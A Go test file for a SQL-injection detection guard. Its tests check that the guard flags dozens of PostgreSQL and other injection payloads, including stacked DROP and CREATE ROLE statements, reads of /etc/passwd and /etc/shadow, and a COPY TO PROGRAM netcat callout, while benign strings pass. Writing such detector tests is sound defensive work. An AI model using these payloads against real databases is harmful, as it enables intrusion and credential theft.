package sqlguard

import (
	"errors"
	"strings"
	"sync"
	"testing"

	"github.com/magflock/mobo/internal/sentinel/event"
)

func TestInspectDetects(t *testing.T) {
	t.Parallel()
	g := newTestGuard(t)
	tests := []struct {
		name, value, reason string // reason "" accepts any
	}{
		{"tautology", "' or 1=1--", "tautology"},
		{"string tautology", "' OR 'a'='a", "tautology"},
		{"comment truncation", "admin'--", "comment truncation"},
		{"hash truncation", "admin' #", "comment truncation"},
		{"union in numeric context", "1 union select null,null--", "union select"},
		{"union after break-out", "-1' UNION ALL SELECT username, password FROM users--", "union select"},
		{"stacked drop", "1; DROP TABLE users", "stacked statement: DROP"},
		{"stacked drop after quote", "'; DROP TABLE users; --", "stacked statement: DROP"},
		{"stacked insert", "'; INSERT INTO users (name) VALUES ('x')--", "stacked statement: INSERT"},
		{"stacked update", "x'; UPDATE profiles SET role='admin' WHERE id=1;--", "stacked statement: UPDATE"},
		{"error-based cast", "' AND 1=CAST((SELECT version()) AS int)--", ""},
		{"cast operator", "' AND 1=(SELECT current_setting('data_directory'))::int--", ""},
		{"pg_sleep concatenated", "'||pg_sleep(5)--", "time delay function"},
		{"pg_sleep stacked", "1;SELECT pg_sleep(10)", "stacked statement: SELECT"},
		{"pg_sleep_for", "'; select pg_sleep_for('5 seconds')--", ""},
		{"case when pg_sleep", "' AND (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--", ""},
		{"copy to program", "'; COPY (SELECT '') TO PROGRAM 'nc 10.0.0.1 4444'--", "copy program"},
		{"copy from program", "';CREATE TEMP TABLE x(t text);COPY x FROM PROGRAM 'id';--", ""},
		{"create role", "'; CREATE ROLE hacker SUPERUSER LOGIN PASSWORD 'x'--", "stacked statement: CREATE/ALTER ROLE"},
		{"alter role", "'; ALTER ROLE anon WITH SUPERUSER;--", "stacked statement: CREATE/ALTER ROLE"},
		{"grant", "1; GRANT pg_execute_server_program TO anon;--", "stacked statement: GRANT"},
		{"set role", "'; SET ROLE postgres;--", "stacked statement: SET ROLE"},
		{"set session authorization", "'; SET SESSION AUTHORIZATION postgres;--", "stacked statement: SET ROLE"},
		{"pg_read_file", "' UNION SELECT pg_read_file('/etc/passwd')--", ""},
		{"pg_ls_dir", "'; SELECT pg_ls_dir('.')--", ""},
		{"pg_read_binary_file", "1 AND length(pg_read_binary_file('/etc/shadow'))>0", ""},
		{"lo_import", "'; SELECT lo_import('/etc/passwd');--", ""},
		{"lo_export", "'; SELECT lo_export(16385, '/tmp/x.so')--", ""},
		{"lo_from_bytea", "1 AND lo_from_bytea(0, '\\x41')>0", ""},
		{"create extension", "'; CREATE EXTENSION dblink;--", "stacked statement: CREATE EXTENSION"},
		{"load", "'; LOAD '/tmp/evil.so';--", "stacked statement: LOAD"},
		{"dblink", "' UNION SELECT * FROM dblink('host=x','SELECT 1') AS t(a int)--", ""},
		{"current_setting", "' OR current_setting('is_superuser')='on'--", ""},
		{"set_config", "'; SELECT set_config('role','postgres',false)--", ""},
		{"query_to_xml", "' UNION SELECT query_to_xml('select * from pg_user',true,true,'')--", ""},
		{"chr concatenation", "' UNION SELECT CHR(65)||CHR(66)||CHR(67)--", ""},
		{"version", "' AND 1=CAST(version() AS int)--", ""},
		{"pg_shadow", "' UNION SELECT usename, passwd FROM pg_shadow--", "union select"},
		{"catalog", "1; SELECT * FROM pg_catalog.pg_tables--", ""},
		{"dollar quoting", "' AND $$a$$=$$a$$--", ""},
		{"do block", "'; DO $$ BEGIN PERFORM pg_sleep(5); END $$;--", ""},
		{"break out of dollar quoting", "$$; DROP TABLE users; $$", "stacked statement: DROP"},
		{"comment inside keyword", "UN/**/ION SE/**/LECT 1", ""},
		{"comments as blanks", "1/**/OR/**/1=1", "tautology"},
		{"versioned comment", "1 /*!UNION*/ /*!SELECT*/ 1,2", ""},
		{"url encoded", "%27%20OR%201%3D1--", "tautology"},
		{"double url encoded", "%2527%2520OR%25201%253D1--", "tautology"},
		{"plus for blank", "1'+or+1=1--", "tautology"},
		{"html entity", "&#39; OR 1=1--", "tautology"},
		{"nbsp", "'\u00a0OR\u00a01=1--", "tautology"},
		{"ideographic space", "'\u3000UNION\u3000SELECT\u30001--", "union select"},
		{"zero-width split", "UN\u200bION SEL\u200bECT 1,2", "union select"},
		{"full-width quote", "\uff07 OR 1=1--", "tautology"},
		{"nul before the quote", "%00' UNION SELECT password FROM users--", "union select"},
		{"random case", "' aNd 1=CaSt((sElEcT vErSiOn()) As InT)--", ""},
		{"double-quoted identifier", "\" OR \"\"=\"", ""},
		{"parenthesis", "') OR ('a'='a", "tautology"},
		{"numeric parenthesis", "1)) or sleep(5)#", ""},
		{"order by probe", "' ORDER BY 3--", "order by probe"},
		{"having", "' HAVING 1=1--", ""},
		{"mssql waitfor", "'; WAITFOR DELAY '0:0:5'--", "time delay: waitfor"},
		{"mysql sleep", "1' AND SLEEP(5)--", ""},
		{"sqlmap boolean", "1' AND 3580=3580 AND 'PgEn'='PgEn", ""},
		{"sqlmap pg error", "1 AND 7278=CAST((CHR(113)||CHR(113))||(SELECT 1)::text AS NUMERIC)", ""},
		{"operator probe", "'-'", "operator probe"},
		{"or at the start", "or 1=1--", "tautology"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f := g.Inspect(tt.value)
			if !f.Found() {
				s, r := g.Score(tt.value)
				t.Fatalf("Inspect(%q) found nothing (score %.2f, %q)", tt.value, s, r)
			}
			if f.Agent != Name || f.Label != "sqli" || f.Scope != "ip" || f.Score <= 0 || f.Score > 1 {
				t.Errorf("Inspect(%q) = %+v", tt.value, f)
			}
			if tt.reason != "" && f.Reason != tt.reason {
				t.Errorf("Inspect(%q).Reason = %q, want %q", tt.value, f.Reason, tt.reason)
			}
		})
	}
}

func TestInspectPasses(t *testing.T) {
	t.Parallel()
	g := newTestGuard(t)
	for _, v := range []string{
		"O'Brien", "D'Angelo", "Dell'Acqua", "Rock 'n' Roll",
		"select the best option and update me",
		"Drop me a line; I'll join you from 1 to 2",
		"Call me; drop table tennis later",
		"Note; delete from your list anything old",
		"eq.5", "in.(1,2,3)", "or=(a.eq.1,b.eq.2)", "like.*foo*", "cs.{a,b}", "fts(english).cat",
		"or=(select.eq.5,status.eq.7)", "and=(age.gte.18,age.lte.65)",
		`{"name": "O'Brien", "tags": ["union", "select"]}`,
		"P@ss'w0rd!", "P@ss'--w0rd", "Zx\"#{Hc", "Tr0ub4dor&3", "jane.doe+news@example.com",
		"https://example.com/search?q=select+shoes&page=2", "2024-02-29T13:45:00Z",
		"550e8400-e29b-41d4-a716-446655440000", "42", "-17", "3.14", "1e10",
		"Use `SELECT * FROM users` to list them",
		"SELECT * FROM table; -- this is a comment",
		"In SQL, 'or' binds less tightly than 'and'",
		"The '--' flag ends options", "'union' vs 'union all'",
		"It's a \"great\" day -- isn't it?", "5'11\" tall", "# Heading", "| a | b |",
		"¯\\_(ツ)_/¯", "l'été", "aujourd'hui", "x || y", "a && b", "1 = 1", "1 or 2",
		"waitfor async js", "execute order 66", "delete account",
	} {
		t.Run(v, func(t *testing.T) {
			t.Parallel()
			if f := g.Inspect(v); f.Found() {
				t.Errorf("Inspect(%q) = %+v, want nothing", v, f)
			}
		})
	}
}

// TestTradeOffs records benign-looking values that are reported on
// purpose: each reads exactly as a payload does ("1 or 1=1" is "5 or 6 >
// 3"; "'; delete from users" is "; delete from trash").
func TestTradeOffs(t *testing.T) {
	t.Parallel()
	g := newTestGuard(t)
	for _, v := range []string{"Empty the bin; delete from trash", "5 or 6 > 3", "2 and 2 = 4", "hunter2'--"} {
		if !g.Inspect(v).Found() {
			t.Errorf("%q is no longer reported: update the package doc's trade-offs", v)
		}
	}
}

// Trade-off: a password-like value with a quote followed by a bare
// comment reads as "admin'--" does, and is reported; with anything
// between the quote and the comment it is not.
func TestPasswordTradeOff(t *testing.T) {
	t.Parallel()
	g := newTestGuard(t)
	if f := g.Inspect("P@ss'w0rd;--!"); f.Found() {
		t.Errorf("P@ss'w0rd;--! reported: %+v", f)
	}
	if f := g.Inspect("hunter2'--"); !f.Found() {
		t.Errorf("hunter2'-- not reported")
	}
}

func TestConfig(t *testing.T) {
	t.Parallel()
	for _, c := range []Config{{Threshold: -0.1}, {Threshold: 1.5}, {MaxLength: -1}, {MaxLength: 1 << 30}} {
		if _, err := New(c); !errors.Is(err, ErrConfig) {
			t.Errorf("New(%+v) error = %v, want ErrConfig", c, err)
		}
	}
	off, err := New(Config{Disabled: true})
	if err != nil {
		t.Fatal(err)
	}
	if off.Inspect("' or 1=1--").Found() {
		t.Error("a disabled guard found something")
	}
	if s := off.Stats(); s.Inspected != 1 || s.Hits != 0 {
		t.Errorf("disabled Stats() = %+v", s)
	}
	strict, err := New(Config{Threshold: 1})
	if err != nil {
		t.Fatal(err)
	}
	if strict.Inspect("' ORDER BY 3--").Found() {
		t.Error("threshold 1 reported a 0.9 score")
	}
	short, err := New(Config{MaxLength: 64})
	if err != nil {
		t.Fatal(err)
	}
	middle := strings.Repeat("a", 60) + "' or 1=1--" + strings.Repeat("b", 60)
	if short.Inspect(middle).Found() {
		t.Error("MaxLength 64 inspected the middle of a 130-byte value")
	}
	if !short.Inspect(strings.Repeat("a", 200) + "' or 1=1--").Found() {
		t.Error("MaxLength 64 missed a payload in the tail of a padded value")
	}
}

func TestShippedModelDecodes(t *testing.T) {
	t.Parallel()
	m, err := UnmarshalModel(shippedModelBytes)
	if err != nil {
		t.Fatal(err)
	}
	b, err := m.MarshalBinary()
	if err != nil || string(b) != string(shippedModelBytes) {
		t.Fatalf("MarshalBinary round trip differs (%v)", err)
	}
	if _, err := UnmarshalModel(b[:len(b)-1]); !errors.Is(err, ErrModel) {
		t.Errorf("truncated model: error %v, want ErrModel", err)
	}
}

func TestStatsConcurrent(t *testing.T) {
	t.Parallel()
	g := newTestGuard(t)
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for range 100 {
				g.Inspect("' or 1=1--")
				g.Inspect("O'Brien")
			}
		})
	}
	wg.Wait()
	if s := g.Stats(); s.Inspected != 1600 || s.Hits != 800 {
		t.Errorf("Stats() = %+v, want 1600 inspected, 800 hits", s)
	}
}

func TestLongValues(t *testing.T) {
	t.Parallel()
	g := newTestGuard(t)
	long := strings.Repeat("a(", 5000) + "' or 1=1--"
	if !g.Inspect(long).Found() {
		t.Error("a payload after 10000 bytes of padding was missed")
	}
	pad := strings.Repeat("x ", 200) + "' UNION SELECT password FROM users--"
	if !g.Inspect(pad).Found() {
		t.Error("an attack after 400 bytes of padding was missed")
	}
}

var _ event.Inspector = (*Guard)(nil)

func FuzzInspect(f *testing.F) {
	for _, s := range []string{
		"", "'", "\"", "$$", "$a$", "/*", "*/", "--", "#", "E'\\'", "U&'x'", "0x", "1e", ".5",
		"' or 1=1--", "%2527", "&#x27;", "%u0027", "UN/**/ION", "/*!50000UNION*/", "\x00'",
		"'; COPY (SELECT '') TO PROGRAM 'id'--", "$1 ; DROP TABLE x", "a$b$c", "`x", "::", "\uff07",
	} {
		f.Add(s)
	}
	g, err := New(Config{})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, v string) {
		if len(v) > 1024 {
			// Longer values are cut at Config.MaxLength anyway
			// (TestLongValues); the fuzzer's minimization of long
			// inputs would crawl.
			return
		}
		fd := g.Inspect(v)
		if fd.Found() && (fd.Score <= 0 || fd.Score > 1 || fd.Reason == "") {
			t.Errorf("Inspect(%q) = %+v", v, fd)
		}
		s, _ := g.Score(v)
		if s < 0 || s > 1 {
			t.Errorf("Score(%q) = %v", v, s)
		}
	})
}
